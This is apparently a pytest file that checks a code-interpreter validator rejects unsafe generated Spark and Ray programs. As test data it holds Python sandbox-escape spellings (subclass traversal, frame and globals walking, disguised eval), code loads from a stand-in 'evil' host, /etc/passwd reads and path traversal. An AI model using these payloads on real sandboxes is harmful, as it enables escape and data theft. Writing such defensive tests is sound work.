"""Bad inputs 11-15 and 20: generated code (security-and-reliability.md §3).

A representative program per spelling, both frameworks; the full bypass corpus (685 malicious,
114 benign programs, per-class counts) runs in tests/unit/validation/test_validator.py.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from sec_support import explain, ray, rejected, spark

from codeinterp_common.validation import validate_ray, validate_spark

CORPUS = Path(__file__).resolve().parents[1] / "corpus" / "validator"

FORBIDDEN = {
    "import os": "import os\nx = os.listdir('.')\n",
    "import subprocess": "import subprocess\nx = subprocess.check_output(['id'])\n",
    "from socket import": "from socket import socket\nx = socket()\n",
    "import ctypes": "import ctypes\nx = ctypes.CDLL(None)\n",
    "import pickle": "import pickle\nx = pickle.loads(b'')\n",
    "import marshal": "import marshal\nx = marshal.loads(b'')\n",
    "eval": "x = eval('1+1')\n",
    "exec": "exec('x = 1')\n",
    "compile": "x = compile('1', 's', 'eval')\n",
    "open": "x = open('data.csv').read()\n",
    "__import__": "x = __import__('os')\n",
    "import in a function": "def f():\n    import os\n    return os.getcwd()\nx = f()\n",
    "import as alias": "import subprocess as sp\nx = sp.run\n",
}


@pytest.mark.bad_input(11, "REJECT")
@pytest.mark.parametrize("what", sorted(FORBIDDEN))
@pytest.mark.parametrize("framework", ["spark", "ray"])
def test_forbidden_modules_and_builtins(framework: str, what: str) -> None:
    result = (spark if framework == "spark" else ray)(FORBIDDEN[what])
    assert rejected(result, "safety.forbidden-import", "safety.forbidden-call", "safety.dunder-access"), (
        explain(result)
    )


OBFUSCATED = {
    "getattr concatenation": 'x = getattr(DF, "__cla" + "ss__")\n',
    "getattr computed": 'n = "".join(["__", "class", "__"])\nx = getattr(DF, n)\n',
    "subclass traversal": "x = ().__class__.__bases__[0].__subclasses__()\n",
    "function globals": "f = lambda: 1\nx = f.__globals__\n",
    "generator frame": "g = (i for i in [1])\nx = g.gi_frame.f_back.f_globals\n",
    "traceback frame": "try:\n    1 / 0\nexcept Exception as e:\n    x = e.__traceback__.tb_frame\n",
    "format-string walking": 'x = "{0.__class__.__init__.__globals__}".format(DF)\n',
    "bound format": 'f = "{0.columns}".format\nx = f(DF)\n',
    "importlib": 'import importlib\nx = importlib.import_module("os")\n',
    "builtins dict": 'x = __builtins__["ev" + "al"]("1")\n',
    "builtins module": "import builtins\nx = builtins.getattr\n",
    "typing.sys": 'import typing\nx = typing.sys.modules["os"]\n',
    "attrgetter": 'import operator\nx = operator.attrgetter("__class__")(DF)\n',
    "vars/globals": "x = vars()\n",
    "type() class factory": 'x = type("K", (), {})\n',
    "full-width identifier": 'x = ｅｖａｌ("1")\n',
    "coding cookie": None,
}


@pytest.mark.bad_input(12, "REJECT")
@pytest.mark.parametrize("what", sorted(OBFUSCATED))
@pytest.mark.parametrize("framework", ["spark", "ray"])
def test_obfuscated_spellings(framework: str, what: str) -> None:
    body = OBFUSCATED[what]
    if body is None:
        read = (
            'df = spark.read.csv(inputs["sales"])\nresult = df\n'
            if framework == "spark"
            else 'import ray\nresult = ray.data.read_csv(inputs["sales"])\n'
        )
        code = "# -*- coding: utf-7 -*-\n" + read
        result = (validate_spark if framework == "spark" else validate_ray)(code, input_names=["sales"])
    else:
        body = body.replace("DF", "df" if framework == "spark" else "ds")
        result = (spark if framework == "spark" else ray)(body)
    assert rejected(result), explain(result)


def test_bypass_corpus_is_large_and_covers_both_frameworks() -> None:
    """Case 12's full coverage lives in the corpus; this guards its size from here too."""
    for fw in ("spark", "ray"):
        assert len(list((CORPUS / fw / "malicious").glob("*.py"))) >= 150
    assert sum(len(list((CORPUS / fw / "benign").glob("*.py"))) for fw in ("spark", "ray")) >= 100


SPARK_HATCHES = {
    "sparkContext": "sc = spark.sparkContext\n",
    "df.sparkSession.sparkContext": "sc = df.sparkSession.sparkContext\n",
    "_jvm": "x = spark._jvm.java.lang.Runtime.getRuntime()\n",
    "_jsc hadoop conf": "spark._jsc.hadoopConfiguration()\n",
    "_jdf": "x = df._jdf\n",
    "rdd": "x = df.rdd.map(lambda r: r)\n",
    "toJSON rdd": 'x = df.toJSON().pipe("id")\n',
    "parallelize": "x = spark.sparkContext.parallelize([1])\n",
    "addPyFile": 'spark.sparkContext.addPyFile("s3://evil/x.py")\n',
    "addArtifacts": 'spark.addArtifacts("x.py", pyfile=True)\n',
    "conf.set s3a key": 'spark.conf.set("spark.hadoop.fs.s3a.access.key", "AKIA")\n',
    "conf.set s3a endpoint": 'spark.conf.set("fs.s3a.endpoint", "http://evil")\n',
    "SparkConf": "from pyspark import SparkConf\nx = SparkConf()\n",
    "udf": "from pyspark.sql.functions import udf\nf = udf(lambda v: v)\n",
    "sql ADD JAR": 'x = spark.sql("ADD JAR http://evil/x.jar")\n',
    "sql reflect": "df.createOrReplaceTempView(\"s\")\nx = spark.sql(\"SELECT reflect('java.lang.System', 'exit', 0) FROM s\")\n",
}


@pytest.mark.bad_input(13, "REJECT")
@pytest.mark.parametrize("what", sorted(SPARK_HATCHES))
def test_spark_escape_hatches(what: str) -> None:
    result = spark(SPARK_HATCHES[what])
    assert rejected(result), explain(result)


@pytest.mark.bad_input(14, "REJECT")
@pytest.mark.parametrize(
    "path",
    [
        "file:///etc/passwd",
        "s3://other-tenant/x.csv",
        "s3a://acct-bucket/x.csv",
        "hdfs://nn/x",
        "http://evil/x.csv",
        "/tmp/x.csv",
        "../x.csv",
        "~/x.csv",
    ],
)
@pytest.mark.parametrize("framework", ["spark", "ray"])
def test_literal_uris_instead_of_inputs(framework: str, path: str) -> None:
    if framework == "spark":
        result = spark(f"result = spark.read.csv({path!r})\n")
    else:
        result = ray(f"result = ray.data.read_csv({path!r})\n")
    assert rejected(result, "workflow.literal-path", "workflow.read-not-input"), explain(result)


@pytest.mark.bad_input(14, "REJECT")
@pytest.mark.parametrize(
    "body",
    [
        'p = inputs["sales"]\np = "/etc/passwd"\nresult = spark.read.csv(p)\n',
        'result = spark.read.csv(inputs["sales"] + "/../other")\n',
        "result = spark.read.csv(f\"{inputs['sales']}/../../x\")\n",
        'result = spark.read.format("text").load(inputs["sales"])\n',
    ],
)
def test_paths_derived_from_inputs_that_leave_them(body: str) -> None:
    assert rejected(spark(body)), explain(spark(body))


@pytest.mark.bad_input(15, "REJECT")
@pytest.mark.parametrize(
    "body",
    [
        'ray.init(runtime_env={"pip": ["requests"]})\n',
        '@ray.remote(runtime_env={"working_dir": "s3://evil/pkg.zip"})\ndef f():\n    return 1\n',
        '@ray.remote\ndef f():\n    return 1\nx = f.options(runtime_env={"env_vars": {"A": "1"}}).remote()\n',
        'x = ds.map_batches(lambda b: b, runtime_env={"pip": ["x"]})\n',
        "from ray.runtime_env import RuntimeEnv\n",
        'opts = {"runtime_env": {}}\nray.init(**opts)\n',
        '@ray.remote\ndef f():\n    import subprocess\n    return subprocess.check_output(["id"])\n',
        "@ray.remote\ndef f():\n    import multiprocessing\n    return multiprocessing.Pool(8)\n",
        "@ray.remote\ndef f():\n    import os\n    return os.fork()\n",
    ],
)
def test_ray_runtime_env_and_process_spawning(body: str) -> None:
    assert rejected(ray(body)), explain(ray(body))


@pytest.mark.bad_input(20, "CONTAIN")
@pytest.mark.parametrize(
    "body",
    [
        'df.write.mode("overwrite").csv("s3://bucket/results/other-tenant/")\n',
        'df.write.parquet("/tmp/elsewhere")\n',
        'df.writeTo("db.results").append()\n',
        'df.toPandas().to_csv("result.csv")\n',
        'df.write.saveAsTable("x")\n',
    ],
)
def test_writes_outside_the_runner_are_rejected_spark(body: str) -> None:
    assert rejected(spark(body), "contract.writes-output", "workflow.literal-path"), explain(spark(body))


@pytest.mark.bad_input(20, "CONTAIN")
@pytest.mark.parametrize(
    "body",
    [
        'ds.write_csv("/tmp/out")\n',
        'ds.write_parquet("s3://bucket/results/other/")\n',
        'ds.to_pandas().to_parquet("x.parquet")\n',
    ],
)
def test_writes_outside_the_runner_are_rejected_ray(body: str) -> None:
    assert rejected(ray(body), "contract.writes-output", "workflow.literal-path"), explain(ray(body))


@pytest.mark.bad_input(20, "CONTAIN")
def test_ray_runner_writes_only_into_its_output_dir(tmp_path) -> None:
    """The runner (not the code) writes; it writes exactly result.parquet and result.csv there."""
    import pyarrow as pa

    from codeinterp_ray_supervisor import runner

    out = tmp_path / "out"
    out.mkdir()
    files = runner.write_outputs(pa.table({"a": [1, 2]}), out, 1 << 20)
    assert sorted(Path(f["uri"]).name for f in files) == ["result.csv", "result.parquet"]
    assert sorted(p.name for p in tmp_path.rglob("*") if p.is_file()) == ["result.csv", "result.parquet"]
